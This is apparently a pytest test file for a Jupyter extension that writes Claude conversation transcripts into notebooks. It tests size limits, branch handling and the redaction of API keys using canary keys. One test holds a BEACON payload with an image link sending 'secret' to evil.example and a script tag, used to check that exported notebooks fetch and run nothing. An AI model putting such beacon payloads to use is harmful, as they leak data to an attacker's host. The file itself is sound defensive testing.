"""What a notebook keeps of its conversation: enough to read it anywhere, and nothing that should not be in a file."""

from __future__ import annotations

import json
from typing import Any

import nbformat
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from nbconvert import HTMLExporter, MarkdownExporter
from server_stage import Stage
from test_transcript import INFO, PICTURE, Seen, rendered

from jupyter_claude_workspace.kernel.transcript import MIME, empty_transcript
from jupyter_claude_workspace.protocol import frames as f
from jupyter_claude_workspace.protocol.content import Origin, PermissionAsk, TextBlock
from jupyter_claude_workspace.web.excerpt import excerpt
from jupyter_claude_workspace.web.redaction import redactor

NO_LIMIT = 1 << 30
KEY = "sk-ant-api03-canary_CANARY-0123456789"


def turn(name: str, *frames: Any, after: str | None = None, text: str = "Hello?") -> list[Any]:
    """A finished turn."""
    started = f.TurnStarted(origin=Origin(kind="prompt", user="Ann"), text=text, after=after)
    whole = [started, *frames, f.TurnEnded(why="completed")]
    return [frame.model_copy(update={"turn": name, "seq": 7, "at": 1}) for frame in whole]


def said(text: str) -> f.Message:
    return f.Message(message="m", block=0, kind="text", text=text)


def kept(conversation: list[Any], limit: int = NO_LIMIT, environ: dict[str, str] | None = None) -> dict[str, Any]:
    return excerpt(INFO, conversation, limit=limit, clean=redactor(environ or {}))


def turns_of(made: dict[str, Any]) -> list[str]:
    return [frame["turn"] for frame in made["data"]["frames"] if frame["type"] == "turn_started"]


def notebook_with(made: dict[str, Any]) -> Any:
    """A notebook whose output is the widget and what was kept."""
    data = {
        "application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "gone"},
        MIME: made["data"],
        "text/markdown": made["markdown"],
        "text/plain": "ClaudePanel()",
    }
    output = nbformat.v4.new_output("execute_result", data=data, execution_count=1)
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("%claude", outputs=[output])])


def bytes_in_file(made: dict[str, Any]) -> int:
    """How much larger a notebook's file is with both texts than with none."""
    empty = {"data": {}, "markdown": ""}
    return len(nbformat.writes(notebook_with(made)).encode()) - len(nbformat.writes(notebook_with(empty)).encode())


def test_finished_turns_are_kept_without_machinery() -> None:
    """What was asked, done, decided and said is there; thoughts, numbers, nonces and the turn that runs are not."""
    ask = PermissionAsk(kind="permission", name="Bash", input={"command": "ls"}, title="Run ls")
    conversation = [
        f.StateChanged(state="running"),
        *turn(
            "one",
            f.Message(message="m", block=0, kind="thinking", text="A secret thought."),
            f.ToolStarted(tool="t", name="Bash", input={"command": "ls"}),
            f.Question(question="q", nonce="NONCE", tool="t", ask=ask),
            f.QuestionSettled(question="q", decision="allow", user="Ann"),
            f.ToolFinished(tool="t", outcome="done", content=[TextBlock(kind="text", text="a.csv")]),
            f.Notice(code="silent", level="warning", text="No sign for 30 s."),
            said("One file."),
        ),
        f.TurnStarted(origin=Origin(kind="prompt"), text="Not yet answered").model_copy(update={"turn": "two"}),
    ]

    made = kept(conversation)

    assert [frame["type"] for frame in made["data"]["frames"]] == [
        "turn_started", "tool_started", "question", "question_settled", "tool_finished", "message", "turn_ended",
    ]  # fmt: skip
    assert not any({"seq", "nonce"} & set(frame) for frame in made["data"]["frames"])
    whole = json.dumps(made)
    for absent in ("A secret thought", "NONCE", "No sign", "Not yet answered"):
        assert absent not in whole
    for present in ("**Ann**", "> Hello?", "```bash\nls\n```", "a.csv", "*Allowed by Ann.*", "One file."):
        assert present in made["markdown"]
    assert {**made["data"], "frames": []} == {
        "version": 1, "session": INFO.session_id, "title": "Penguins", "left_out": 0, "frames": [],
    }  # fmt: skip


def test_only_the_branch_that_is_shown_is_kept() -> None:
    """After going back, even before the first one, the turns that were left behind are not in the notebook."""
    first, second = turn("a"), turn("b", said("left behind"))
    onwards = [f.Branch(after="a"), *turn("c", said("instead"), after="a")]

    assert turns_of(kept([*first, *second])) == ["a", "b"]
    assert turns_of(kept([*first, *second, *onwards])) == ["a", "c"]
    assert turns_of(kept([*first, *second, *onwards, f.Branch(after="b")])) == ["a", "b"]
    assert turns_of(kept([*first, f.Branch(), *turn("d")])) == ["d"]


def test_old_turns_go_first_and_are_counted() -> None:
    """The newest turns that fit are kept; a line says how many are missing and where they are, without a token."""
    conversation = [frame for number in range(50) for frame in turn(str(number), said(f"Reply {number}. " * 40))]

    made = kept(conversation, limit=20_000)

    names = turns_of(made)
    assert names == [str(number) for number in range(50 - len(names), 50)]
    assert 5 < len(names) < 50
    assert made["data"]["left_out"] == 50 - len(names)
    assert f"{50 - len(names)} earlier turns are left out" in made["markdown"]
    assert f"`claude-workspace/api/sessions/{INFO.session_id}/transcript?format=md`" in made["markdown"]
    assert "token" not in made["markdown"]
    assert bytes_in_file(made) <= 20_000


TEXTS = st.text(max_size=300).map(lambda text: text * 20)
STEPS = st.one_of(
    TEXTS.map(said),
    TEXTS.map(lambda text: f.ToolStarted(tool="t", name="Write", input={"content": text, "deep": [{"x": text}]})),
    TEXTS.map(lambda text: f.ToolFinished(tool="t", outcome="done", content=[TextBlock(kind="text", text=text)])),
    st.just(f.ToolFinished(tool="t", outcome="done", content=[PICTURE.model_copy(update={"data": "A" * 40_000})])),
)


@settings(max_examples=60)
@given(st.lists(st.lists(STEPS, max_size=30), min_size=1, max_size=6), st.integers(8_000, 60_000))
@example([[said("\n" * 6_000)]], 8_000)  # each line of markdown is a string of its own
@example([[f.ToolStarted(tool="t", name="Write", input={"deep": [{"x": ""}]})] * 30] * 30, 93_000)  # so is each key
def test_it_never_takes_more_than_it_may(turns: list[list[Any]], limit: int) -> None:
    """Whatever was said, both texts fit into the limit as the notebook's file counts, and the newest turn is there."""
    conversation = [frame for number, steps in enumerate(turns) for frame in turn(str(number), *steps)]

    made = kept(conversation, limit=limit)

    assert bytes_in_file(made) <= limit
    assert turns_of(made)[-1:] == [str(len(turns) - 1)]
    assert made["data"]["left_out"] == len(turns) - len(turns_of(made))


def test_a_turn_that_is_too_long_is_shortened() -> None:
    """A reply, a command's output and a picture that do not fit keep their ends, their count, and their name."""
    made = kept(
        turn(
            "one",
            f.ToolStarted(tool="t", name="Bash", input={"command": "cat big"}),
            f.ToolFinished(
                tool="t",
                outcome="done",
                omitted=5,
                content=[
                    TextBlock(kind="text", text="BEGIN" + "x" * 500_000 + "END"),
                    PICTURE.model_copy(update={"data": "A" * 400_000}),
                ],
            ),
            said("First word. " + "word " * 200_000 + "Last word."),
        ),
        limit=100_000,
    )

    finished = next(frame for frame in made["data"]["frames"] if frame["type"] == "tool_finished")
    reply = next(frame for frame in made["data"]["frames"] if frame["type"] == "message")["text"]
    output, picture = finished["content"]
    assert output["text"].startswith("BEGIN")
    assert output["text"].endswith("END")
    assert finished["omitted"] == 5 + 500_008 - (len(output["text"]) - len("\n…\n"))
    assert "a picture, image/png" in picture["text"]
    assert reply.startswith("First word.")
    assert reply.endswith("Last word.")
    assert "characters left out" in reply
    assert bytes_in_file(made) <= 100_000


def test_small_pictures_are_kept() -> None:
    """A picture of a few kilobytes stays in the data, and is named in the markdown."""
    made = kept(
        turn(
            "one",
            f.ToolStarted(tool="t", name="Read", input={}),
            f.ToolFinished(tool="t", outcome="done", content=[PICTURE]),
        )
    )

    assert PICTURE.model_dump() in [block for frame in made["data"]["frames"] for block in frame.get("content", [])]
    assert "a picture, image/png" in made["markdown"]
    assert PICTURE.data not in made["markdown"]


@pytest.mark.parametrize("where", ["prompt", "reply", "input", "output", "problem"])
def test_keys_are_not_kept(where: str) -> None:
    """Keys of Anthropic's, and values of variables that are named like keys, are nowhere in it."""
    own = "hf_0123456789abcdefgh"
    leak = f"It is {KEY}, also {own}."
    steps = {
        "reply": [said(leak)],
        "input": [f.ToolStarted(tool="t", name="Bash", input={"env": [{leak: leak}]})],
        "output": [
            f.ToolStarted(tool="t", name="Bash", input={}),
            f.ToolFinished(
                tool="t", outcome="done", content=[TextBlock(kind="text", text="x" * 2970 + leak + "y" * 9000)]
            ),
        ],
        "problem": [said("x").model_copy(update={"text": leak})],
    }
    conversation = turn("one", *steps.get(where, []), text=leak if where == "prompt" else "Hello?")

    made = kept(conversation, environ={"HF_TOKEN": own, "PATH": "/usr/bin:/bin", "SSH_KEY": "/home/ann/.ssh/id"})

    whole = json.dumps(made)
    assert "sk-ant" not in whole
    assert "canary" not in whole.lower()
    assert own not in whole
    assert "[a key was here]" in whole


def test_words_and_paths_are_no_keys() -> None:
    """A short value, a path, and a variable of another kind stay readable."""
    environ = {"API_KEY": "short", "TLS_KEY": "/etc/ssl/private/key.pem", "EDITOR": "emacsclient-nw"}
    text = "short /etc/ssl/private/key.pem emacsclient-nw sk-ant-"

    assert kept(turn("one", said(text)), environ=environ)["data"]["frames"][1]["text"] == text


def test_nothing_is_kept_where_that_is_set() -> None:
    """With a limit of 0 there is nothing to write."""
    assert kept(turn("one"), limit=0) == {"data": None, "markdown": None}


BEACON = "![x](http://evil.example/?q=secret) <img src=http://evil.example> <script>alert(1)</script>"


@pytest.mark.parametrize("exporter", [HTMLExporter, MarkdownExporter])
def test_nbconvert_shows_it(exporter: Any) -> None:
    """The notebook is valid; exported without this package's help it shows the conversation, and fetches nothing."""
    title = INFO.__class__(**{**INFO.__dict__, "title": BEACON})
    reply = said(f"The **answer** is 42. {BEACON}\n\n```python\nprint('in code')\n```")
    made = excerpt(title, turn("one", reply, text=BEACON), limit=NO_LIMIT, clean=redactor({}))
    notebook = notebook_with(made)
    nbformat.validate(notebook)

    text, _ = exporter().from_notebook_node(notebook)

    assert "answer" in text
    assert "in code" in text
    html = text if exporter is HTMLExporter else rendered(text)
    if exporter is HTMLExporter:
        html = html[html.index("<main") :]
        assert "<strong>answer</strong>" in html
        assert "Error displaying widget" not in html
    assert not [tag for tag in Seen(html).bad if "evil" in tag or tag.startswith(("<script", "<img"))]


def test_an_empty_one_is_of_the_same_form() -> None:
    """What the kernel shows before the first turn has the keys that the server fills, and the kernel's id."""
    empty = empty_transcript("5c1a")[MIME]

    assert set(empty) == {*kept(turn("one"))["data"], "kernel"}
    assert (empty["version"], empty["kernel"], empty["frames"]) == (1, "5c1a", [])


async def test_the_server_makes_it(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    """After a turn, the session's transcript for the notebook has that turn, and not the key that was in it."""
    monkeypatch.setenv("ANTHROPIC_API_KEY", "0123456789-own-key-of-this-server")
    session_id = await stage.create()
    await (await stage.channel(session_id)).turn("hello, my key is 0123456789-own-key-of-this-server")

    answer = await stage.ask("GET", f"api/sessions/{session_id}/transcript", params={"format": "notebook"})

    made = json.loads(answer.body)
    assert answer.code == 200
    assert answer.headers["Cache-Control"] == "no-store"
    assert made["data"]["session"] == session_id
    assert len(turns_of(made)) == 1
    assert "demo model" in made["markdown"]
    assert "own-key" not in answer.body.decode()
